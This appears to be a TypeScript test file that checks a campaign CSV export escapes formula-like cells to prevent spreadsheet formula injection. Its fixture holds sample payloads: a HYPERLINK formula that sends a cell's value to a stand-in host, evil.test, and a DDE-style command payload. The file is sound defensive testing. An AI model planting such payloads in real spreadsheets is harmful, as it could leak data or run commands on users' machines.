import type { CampaignDto } from '@plano/core';
import type { ProcessCellForExportParams } from 'ag-grid-community';
import { describe, expect, it } from 'vitest';
import { PLAN_DATA_COLUMNS } from './campaign-columns.tsx';
import { campaignsCsvParams } from './campaign-export.ts';

const HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';

/** A campaign whose every typed text starts like a formula. */
const camp = {
  name: HYPERLINK,
  brand: '+cmd|" /C calc"!A0',
  created_by: { _id: 'u', name: '@Ana', email: '-planner@plano.test' },
  budget: 25_000_000,
  bd_progress: 12.5,
  start_date: '2026-11-12',
  end_date: '2027-01-01',
  states: ['@Región de Coquimbo', 'Región de Valparaíso'],
  cities: ['La Serena'],
} as CampaignDto;

/** What AG Grid hands the callback for one cell: the column, the grid's value and the row. */
function cell(colId: string, value: unknown): ProcessCellForExportParams {
  return { column: { getColId: () => colId }, value, node: { data: camp } } as ProcessCellForExportParams;
}

describe('campaignsCsvParams', () => {
  const params = campaignsCsvParams('awaiting');
  const written = (colId: string, value: unknown = (camp as Record<string, unknown>)[colId]) =>
    params.processCellCallback?.(cell(colId, value));

  it('guards every formula-like cell with a leading quote, and AG Grid quotes the cells', () => {
    expect(params.suppressQuotes).toBeFalsy();
    expect(written('name')).toBe(`'${HYPERLINK}`);
    expect(written('brand')).toBe('\'+cmd|" /C calc"!A0');
    expect(written('created_by')).toBe("'-planner@plano.test");
    expect(written('states')).toBe("'@Región de Coquimbo, Región de Valparaíso");
    for (const colId of PLAN_DATA_COLUMNS) expect(written(colId)).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps numbers and readable values as they were', () => {
    expect(written('budget')).toBe('25000000');
    expect(written('bd_progress')).toBe('12.5%');
    expect(written('start_date')).not.toMatch(/^'/);
    expect(written('brand', 'Helados Polar')).toBe('Helados Polar');
  });
});
